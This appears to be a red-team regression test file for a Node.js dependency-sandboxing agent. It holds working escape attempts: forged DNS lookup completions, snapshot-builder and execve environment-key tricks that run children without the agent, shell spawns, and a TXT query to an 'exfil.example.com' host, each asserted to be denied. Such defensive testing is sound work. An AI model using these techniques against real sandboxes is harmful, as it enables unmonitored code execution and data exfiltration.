// Red team, round 5: the mechanisms added with lazily patched builtins (builtin-loads.ts), the policy
// a Node child inherits (child-policy.ts), and the worker stack floor (worker-thread.ts). A hostile
// dependency that knows the agent is there tries to get past them. The observers live in the test
// process: a TCP server on 127.0.0.2 that counts what really arrived, files that must not exist, and
// the event files. Each finding's test failed against the bundle before its fix (see the commit
// messages); attacks that held are kept, grouped, as regression tests.
import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { appResults, cleanup, type RunOptions, type RunResult, runFixture } from './harness.js';
import { DENY_ALL, FORBIDDEN_HOST, runAttack, targetDir, useForbiddenServer } from './redteam-support.js';

const server = useForbiddenServer();

const attack = (body: string, options: Partial<RunOptions> = {}) => runAttack(server, body, options);

const detailOf = (run: RunResult) => JSON.stringify({ results: appResults(run), stderr: run.stderr });

// The agent learns which addresses an allowed name resolves to from the completion of a system
// lookup: a wrapper it puts on the request's `oncomplete`, and the callback of its own resolution of
// the allowed names. It refused a completion with app code on the stack, but a function the app
// holds can be run from an empty stack: a bound function as a microtask, run by the checkpoint Node
// makes from C++ after a callback. The app read the wrapper from the request (async_hooks gives it)
// and made `localhost` (allowed) vouch for 127.0.0.2.
// GOT THROUGH before the fix: `{ connected: true }`, the server accepted the connection, no event.
// Fix: the wrapper learns only when it runs in the request's own async context (libuv's completion
// through MakeCallback); the agent's resolution of the allowed names learns there too, no longer in
// its lookup callback (reachable as `req.callback`).
describe('red team 5: a forged completion of a lookup teaches an allowed name an address', () => {
  it('the wrapper on the request, run by a promise reaction with made-up addresses', async () => {
    const { run, accepted } = await attack(`
const asyncHooks = require('node:async_hooks');
const requests = [];
asyncHooks.createHook({ init(id, type, trigger, resource) { if (type === 'GETADDRINFOREQWRAP') requests.push(resource); } }).enable();
const dns = require('node:dns');
await new Promise((resolve) => dns.lookup('localhost', { all: true }, resolve));
// the app's callback must not run again; then, from an fs callback, a promise reaction: V8 runs it
// from the checkpoint after the callback, with nothing under it on the stack
const request = requests[requests.length - 1];
request.callback = () => {};
const forge = () => new Promise((resolve) => {
  fs.stat('/', () => {
    Promise.resolve().then(request.oncomplete.bind(request, 0, [FORBIDDEN]));
    setTimeout(resolve, 20);
  });
});
await forge();
report(await tryConnect({ host: FORBIDDEN, port: PORT }));`);
    const detail = detailOf(run);
    expect(accepted, detail).toBe(0);
    expect(appResults(run)[0], detail).toMatchObject({ error: 'ERR_ACCESS_DENIED' });
    cleanup(run);
  });

  // the module loaded while the watch was out, its lookup replaced, then a made-up `NativeModule dns`
  // entry pushed to re-arm the watch: the agent took the app's lookup for its own, and that lookup
  // answered the agent's resolution of `localhost` from a promise reaction
  it("the agent's own resolution, through a lookup the app planted before the watch saw node:dns", async () => {
    const { run, accepted } = await attack(`
const list = process.moduleLoadList;
const watch = Object.getPrototypeOf(list);
Object.setPrototypeOf(list, Array.prototype);
const dns = require('node:dns');
dns.lookup = (hostname, options, callback) => {
  if (typeof options === 'function') callback = options;
  Promise.resolve().then(callback.bind(null, null, [{ address: FORBIDDEN, family: 4 }]));
};
Object.setPrototypeOf(list, watch);
list.push('NativeModule dns');
const first = await tryConnect({ host: 'localhost', port: 1 });
await new Promise((resolve) => setTimeout(resolve, 100));
report({ first, dial: await tryConnect({ host: FORBIDDEN, port: PORT }) });`);
    const detail = detailOf(run);
    expect(accepted, detail).toBe(0);
    expect(appResults(run)[0], detail).toMatchObject({ dial: { error: 'ERR_ACCESS_DENIED' } });
    // and the made-up entry is not taken for Node's: the agent never adopted the planted lookup
    // (it tells Node's loader's push from the app's by the caller), so it resolves nothing ahead
    expect(run.stderr, detail).toContain('allowed names are not resolved ahead');
    cleanup(run);
  });
});

// `node --build-snapshot <entry>` runs the entry without the preload modules NODE_OPTIONS names
// (Node 20 and 22): a Node child the policy lets start (`node` among allowedCommands, or process
// observe) ran the app's code with no agent at all, under no policy. The entry is the app's own
// file, so the app needs no write to plant one.
// GOT THROUGH before the fix: the server on 127.0.0.2 accepted the snapshot builder's connection.
describe('red team 5: a Node child started in a mode that skips the preload modules', () => {
  const SOURCE = (port: number) => `
const v8 = require('node:v8');
if (v8.startupSnapshot && v8.startupSnapshot.isBuildingSnapshot()) {
  const socket = require('node:net').connect(${port}, '${FORBIDDEN_HOST}');
  socket.on('connect', () => { console.log('{"child":"connected"}'); socket.destroy(); });
  socket.on('error', (error) => console.log(JSON.stringify({ child: error.code || String(error) })));
} else {
  const { spawnSync } = require('node:child_process');
  const blob = require('node:path').join(require('node:os').tmpdir(), 'rt5-snapshot-' + process.pid);
  const run = spawnSync(process.execPath, ['--snapshot-blob', blob, '--build-snapshot', __filename], { encoding: 'utf8' });
  try { require('node:fs').rmSync(blob, { force: true }); } catch {}
  console.log(JSON.stringify({ status: run.status, error: run.error && run.error.code, out: run.stdout }));
}`;

  it('`node` among allowedCommands under process deny: the builder never runs', async () => {
    const before = server.accepted();
    const run = await runFixture({
      policy: { ...DENY_ALL, process: 'deny', allowedCommands: ['node'] },
      source: SOURCE(server.port),
      timeoutMs: 30_000,
    });
    const detail = JSON.stringify({ out: run.appOutput, stderr: run.stderr, events: run.events });
    expect(server.accepted() - before, detail).toBe(0);
    expect(run.appOutput, detail).toContain('"error":"ERR_ACCESS_DENIED"');
    expect(run.events.some((event) => event.action === 'deny' && event.operation === 'spawn')).toBe(true);
    cleanup(run);
  });

  it.each([
    ['--build-snapshot-config', ['--build-snapshot-config', '/nonexistent/config.json']],
    ['--run (Node 22: a package.json script, through a shell)', ['--run', 'build']],
    ['--build-snapshot through process.execve', ['--snapshot-blob', '/tmp/x', '--build-snapshot', 'app.cjs']],
  ])('%s is judged as a Node child without the agent', async (label, argv) => {
    const viaExecve = label.includes('execve');
    const run = await runFixture({
      policy: { ...DENY_ALL, process: 'deny', allowedCommands: ['node'] },
      source: `
const argv = ${JSON.stringify(argv)};
let outcome;
if (${viaExecve}) {
  try { process.execve ? process.execve(process.execPath, [process.execPath, ...argv]) : (outcome = 'no execve'); } catch (error) { outcome = error.code; }
} else {
  const run = require('node:child_process').spawnSync(process.execPath, argv);
  outcome = run.error ? run.error.code : 'ran';
}
console.log(JSON.stringify({ outcome }));`,
      timeoutMs: 30_000,
    });
    const detail = JSON.stringify({ out: run.appOutput, stderr: run.stderr });
    expect(run.appOutput, detail).toMatch(/"outcome":"(ERR_ACCESS_DENIED|no execve)"/);
    cleanup(run);
  });

  // process observe lets any program run (a shell as much as this); the start is reported as what it is
  it('process observe: the start is reported as a Node child without the agent', async () => {
    const run = await runFixture({
      policy: { ...DENY_ALL, process: 'observe' },
      source: SOURCE(server.port),
      timeoutMs: 30_000,
    });
    const detail = JSON.stringify({ out: run.appOutput, stderr: run.stderr, events: run.events });
    const started = run.events.filter((event) => event.operation === 'spawn');
    expect(
      started.map((event) => [event.action, event.target]),
      detail,
    ).toEqual([['observe', expect.stringContaining('node (without the agent)')]]);
    cleanup(run);
  });
});

// process.execve (Node 22.15+) takes an environment object and hands the new program `key=value`
// strings: a key with an `=` in it (`'NODE_OPTIONS=--title': 'x'`) became `NODE_OPTIONS=--title=x`,
// which the agent's correction (by key) left in place, ahead of its own NODE_OPTIONS: the new
// program, the first of the two for getenv(), ran without the agent.
// GOT THROUGH before the fix (Node 22): the new image connected to 127.0.0.2 under network deny.
// Fix: the correction reads a key as the variable the new program will see (the name before the
// first `=`, the first of a name winning), so NODE_OPTIONS, ES_INHERITED_POLICY and the agent's
// configuration are set whatever the app spelled.
describe('red team 5: process.execve with an environment key that holds an =', () => {
  it.each([
    ['NODE_OPTIONS without the agent', "{ 'NODE_OPTIONS=--no-warnings --title': 'x' }"],
    [
      'a planted hand-off',
      `{ ['ES_INHERITED_POLICY=' + JSON.stringify({ source: 'file', appDirs: [], policy: { name: 'planted', network: 'grant', filesystem: 'grant', process: 'grant' } }).slice(0, -1) + ',"x":"']: '"}' }`,
    ],
  ])('%s: the new program is still under network deny', async (_label, extra) => {
    const { run, accepted } = await attack(
      `
if (process.env.RT_STAGE === '2') {
  report({ stage: 2, dial: await tryConnect({ host: FORBIDDEN, port: PORT }) });
} else if (typeof process.execve !== 'function') {
  report({ skipped: 'no process.execve on ' + process.version });
} else {
  const env = { ...process.env, RT_STAGE: '2', ...${extra} };
  report({ execve: attempt(() => process.execve(process.execPath, [process.execPath, __filename], env)) });
}`,
      { policy: { ...DENY_ALL, process: 'deny', allowedCommands: ['node'] } },
    );
    const detail = detailOf(run);
    expect(accepted, detail).toBe(0);
    const result = appResults(run)[0] as Record<string, unknown>;
    if (!('skipped' in result))
      expect(result, detail).toMatchObject({ stage: 2, dial: { error: 'ERR_ACCESS_DENIED' } });
    cleanup(run);
  });
});

// Attacks that held, kept as regression tests.
describe('red team 5: held', () => {
  // Node builtins the agent patches when they load; the watch taken out or fooled, the bindings judge
  it('the load watch taken out, fooled or made to throw: spawns, queries and datagrams are still denied', async () => {
    const target = targetDir();
    const { run, accepted } = await attack(
      `
const list = process.moduleLoadList;
const results = {};
// a setter on the next index, so Node's push never reaches the watch; then the watch removed
Object.defineProperty(list, list.length, { set() {}, get() { return 'x'; }, configurable: true });
Object.setPrototypeOf(list, Array.prototype);
// entries Node will never push, and entries that make a patch load the module re-entrantly
list.push('NativeModule child_process', 'NativeModule dgram', 'NativeModule vm');
const childProcess = process.getBuiltinModule ? process.getBuiltinModule('node:child_process') : require('node:child_process');
results.spawn = attempt(() => childProcess.execFileSync('/bin/sh', ['-c', 'echo ran > ' + TARGET + '/spawned']));
results.rawSpawn = attempt(() => process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', 'echo ran > ' + TARGET + '/raw'], envPairs: [], stdio: [] }).status);
const dgram = require('node:dgram');
results.udp = await new Promise((resolve) => {
  const socket = dgram.createSocket('udp4');
  socket.send('x', PORT, FORBIDDEN, (error) => { socket.close(); resolve(error ? error.code || String(error) : 'sent'); });
});
const { Resolver } = await import('node:dns/promises');
results.txt = await new Resolver().resolveTxt('exfil.example.com').then(() => 'resolved', (error) => error.code);
results.dial = await tryConnect({ host: FORBIDDEN, port: PORT });
report(results);`,
      { env: { RT_TARGET: target.dir } },
    );
    const detail = detailOf(run);
    expect(accepted, detail).toBe(0);
    const results = appResults(run)[0] as Record<string, unknown>;
    expect(results.spawn, detail).toMatchObject({ error: 'ERR_ACCESS_DENIED' });
    expect(results.rawSpawn, detail).not.toEqual({ ok: 0 });
    expect(results.udp, detail).not.toBe('sent');
    expect(results.txt, detail).not.toBe('resolved');
    expect(results.dial, detail).toMatchObject({ error: 'ERR_ACCESS_DENIED' });
    expect(readdirSync(target.dir), detail).toEqual([]);
    cleanup(run);
    target.remove();
  });

  // a Node child: preloads of the app's own in NODE_OPTIONS, an --env-file naming its own hand-off
  it('a Node child with a loader, an --import or an --env-file of the app: still under network deny', async () => {
    const { run, accepted } = await attack(
      `
const dial = "import net from 'node:net'; await new Promise((resolve) => { const s = net.connect(" + PORT + ", '" + FORBIDDEN + "'); s.on('connect', () => { console.log('CONNECTED'); s.destroy(); resolve(); }); s.on('error', (e) => { console.log(e.code); resolve(); }); });";
const { spawnSync } = require('node:child_process');
const envFile = require('node:path').join(require('node:os').tmpdir(), 'rt5-env-' + process.pid);
fs.writeFileSync(envFile, 'ES_INHERITED_POLICY=' + JSON.stringify({ source: 'file', appDirs: [], policy: { name: 'planted', network: 'grant', filesystem: 'grant', process: 'grant' } }) + '\\nNODE_OPTIONS=\\n');
const results = {};
for (const flag of ['--experimental-loader', '--import']) {
  const child = spawnSync(process.execPath, ['-e', 'setTimeout(() => {}, 300)'], { env: { ...process.env, NODE_OPTIONS: flag + ' "data:text/javascript,' + encodeURIComponent(dial) + '"' }, encoding: 'utf8' });
  results[flag] = child.stdout.split('\\n').filter((line) => line && !line.startsWith('{'));
}
const child = spawnSync(process.execPath, ['--env-file=' + envFile, '--input-type=module', '-e', dial], { encoding: 'utf8' });
results.envFile = child.stdout.split('\\n').filter((line) => line && !line.startsWith('{'));
fs.rmSync(envFile, { force: true });
report(results);`,
      { policy: { ...DENY_ALL, filesystem: 'observe', process: 'deny', allowedCommands: ['node'] } },
    );
    const detail = detailOf(run);
    expect(accepted, detail).toBe(0);
    expect(appResults(run)[0], detail).toEqual({
      '--experimental-loader': ['ERR_ACCESS_DENIED'],
      '--import': ['ERR_ACCESS_DENIED'],
      envFile: ['ERR_ACCESS_DENIED'],
    });
    cleanup(run);
  });

  // resource limits that answer the agent's read and the Worker's differently, and stacks too small
  it('a worker with resource limits that change between reads, or tiny ones, never dials out', async () => {
    const { run, accepted } = await attack(`
const { Worker } = require('node:worker_threads');
const DIAL = "const net = require('node:net'); const { parentPort } = require('node:worker_threads'); const s = net.connect(" + PORT + ", '" + FORBIDDEN + "'); s.on('connect', () => { s.destroy(); parentPort.postMessage('connected'); }); s.on('error', (e) => parentPort.postMessage(e.code));";
const inWorker = (resourceLimits) => new Promise((resolve) => {
  let worker;
  try { worker = new Worker(DIAL, { eval: true, resourceLimits }); } catch (error) { resolve('thrown ' + error.code); return; }
  let result = 'no message';
  worker.on('message', (message) => { result = message; });
  worker.on('error', (error) => { result = error.code || String(error); });
  worker.on('exit', () => resolve(result));
});
let reads = 0;
const flipping = new Proxy({}, { get: (_, key) => (key === 'stackSizeMb' ? (reads++ === 0 ? 4 : 0.05) : undefined) });
let getterReads = 0;
const getter = { get stackSizeMb() { return getterReads++ === 0 ? 4 : 0.05; } };
const results = [];
for (const limits of [flipping, getter, { stackSizeMb: 0.01 }, { stackSizeMb: 0.1, maxYoungGenerationSizeMb: 1 }]) results.push(await inWorker(limits));
report(results);`);
    const detail = detailOf(run);
    expect(accepted, detail).toBe(0);
    for (const result of appResults<{ toString(): string }[]>(run)[0] ?? [])
      expect(result, detail).not.toBe('connected');
    cleanup(run);
  });
});
